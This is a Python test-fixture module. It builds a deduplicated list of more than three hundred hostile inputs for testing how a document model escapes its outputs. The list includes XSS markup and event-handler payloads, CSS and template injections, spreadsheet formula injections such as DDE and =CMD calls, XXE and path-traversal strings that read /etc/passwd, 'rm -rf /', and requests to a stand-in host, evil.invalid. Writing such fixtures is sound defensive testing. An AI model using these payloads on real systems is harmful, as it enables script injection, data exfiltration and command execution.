"""Texts that try to become something else: markup, scripts, formulas, paths, other directions of reading.

`HOSTILE` is one list for all outputs. Every text is written with escapes where it holds what cannot be seen.
"""

from __future__ import annotations

import unicodedata

_SCRIPTS = (
    "alert(1)",
    "alert`1`",
    "document.title='pwned'",
    "fetch('//evil.invalid/')",
    "window.pwned=1",
)

_MARKUP = (
    "<script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "<ScRiPt >{}</sCrIpT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror={}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>lien</a>",
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    "`onmouseover={}`",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
)

_HTML = (
    "<b>gras</b>",
    "<h1>Titre</h1>",
    "</h1><h1>",
    "</td><td>",
    "</tr><tr><td>",
    "</table>",
    "<table><tr><td>",
    "</main></body></html>",
    "<!--",
    "-->",
    "<!-- commentaire -->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "<!ENTITY e 'x'>&e;",
    "<base href='//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<meta charset=utf-7>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "</style>",
    "</title>",
    "</script>",
    "<textarea>",
    "<plaintext>",
    "<noscript>",
    "<template>",
    "<object data=//evil.invalid/></object>",
    "<embed src=//evil.invalid/>",
    "<video src=//evil.invalid/ autoplay>",
    "<form action=//evil.invalid/><button>Envoyer</button></form>",
    "<input type=hidden name=x>",
    "<a href=//evil.invalid/>lien</a>",
    "<a name=x id=contenu>",
    "<p style='position:fixed;inset:0'>",
    "<svg><use href=//evil.invalid/#x /></svg>",
    "<image href=//evil.invalid/x.svg />",
    "<foreignObject><p>x</p></foreignObject>",
    "<", ">", "&", '"', "'", "`", "<>", "</", "/>", "<a", "&amp;", "&amp;lt;", "&lt", "&nbsp;", "&#0;", "&#x202e;",
    "&notanentity;", "a=b", "a&b=c&copy=1", "\\", "\\x3c", "\\'", '\\"', "%00", "%0d%0aX: y", "#contenu", "?x=1",
)  # fmt: skip

_STYLES = (
    "}*{display:none}",
    ";background:url(//evil.invalid/x.png)",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "\\3c script\\3e",
    "/*", "*/",
    "@import url(//evil.invalid/);",
    "behavior:url(x.htc)",
)  # fmt: skip

_FORMULAS = (
    "=1+1",
    "=CMD|'/C calc'!A0",
    "=HYPERLINK(\"//evil.invalid/\";\"lien\")",
    "=WEBSERVICE(\"//evil.invalid/\")",
    "=IMPORTXML(\"//evil.invalid/\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=INDIRECT(\"A1\")",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "|calc",
    "%1",
    "\u22121+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\xa0=1+1",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "{=1+1}",
    "1;=2",
    "1,=2",
)  # fmt: skip

_TEMPLATES = (
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in y %}", "{% include '/etc/passwd' %}", "{# #}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{0}", "{}", "{0.__class__}", "%s%s%n", "%(x)s", "$(id)", "`id`", "; rm -rf /", "| cat",
    "&& calc", "{{r 'x'}}", "{{p x}}", "w:t</w:t>", "<w:p/>", "<w:instrText>INCLUDETEXT x</w:instrText>",
    "{INCLUDEPICTURE \"//evil.invalid/\"}", "DDEAUTO c:\\\\cmd",
)  # fmt: skip

_PATHS = (
    "../../etc/passwd", "..", ".", "/etc/passwd", "C:\\Windows\\x", "\\\\evil.invalid\\x", "CON", "con.txt", "NUL",
    "aux", "lpt1", "x/y", "x\\y", "~", ".htaccess", "-rf", "*", "?", "a:b", "x.", "file:///etc/passwd", "index",
    "INDEX", "x" * 150,
)  # fmt: skip

_CALENDARS = (
    "END:VCALENDAR", "BEGIN:VEVENT", "x;ATTENDEE=mailto:a@evil.invalid", "X-P:v", "a,b;c\\,d", "\\n", "\\nEND:VEVENT",
    "DTSTART:19700101", '";LANGUAGE="x',
)  # fmt: skip

_DIRECTIONS = (
    "\u202egnp.exe", "\u202d123", "\u2066abc\u2069", "\u2067abc", "\u200fabc", "\u061cabc", "\u202bשלום", "שלום عالم",
    "\u200babc", "a\u200db", "a\u00adb", "\ufeffabc", "e\u0301\u0301\u0301\u0301", "Z\u0351\u036b\u0343\u036aalgo",
    "𝕬𝖇𝖈", "👩\u200d👩\u200d👧", "\U000e0041\U000e0042", "\ufdfd", "漢字かな", "İstanbul", "ﬀ", "\u2028ligne",
    "\u2029para", "\xa0", "\u3000",
)  # fmt: skip

_CONTROLS = (
    "a\x00b", "a\x07b", "a\x08b", "a\x1bb", "\x1b[31mrouge\x1b[0m", "a\x7fb", "a\x85b", "a\x9fb", "a\rb", "a\nb",
    "a\r\nEND:VEVENT\r\nb", "a\tb", "\t=1+1", "\r=1+1", "\n=1+1", "a\x0bb", "a\x0cb", "\ufffe", "\uffff", "_x0041_",
    "_x000D_", "_x0000_",
)  # fmt: skip

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(form.format(script) for form in _MARKUP for script in _SCRIPTS),
            *_HTML,
            *_STYLES,
            *_FORMULAS,
            *_TEMPLATES,
            *_PATHS,
            *_CALENDARS,
            *_DIRECTIONS,
            *_CONTROLS,
        ]
    )
)
"""More than three hundred distinct texts; for labels, all of them."""


def _fit_for_an_id(text: str) -> bool:
    """Whether the document model takes a text as an id: 1 to 200 characters, none of control, none blank alone."""
    controls = any(unicodedata.category(character) in ("Cc", "Cs", "Zl", "Zp") for character in text)
    return 0 < len(text) <= 200 and text.strip() == text and not controls


HOSTILE_IDS: tuple[str, ...] = tuple(text for text in HOSTILE if _fit_for_an_id(text))
"""Those that can be ids too."""
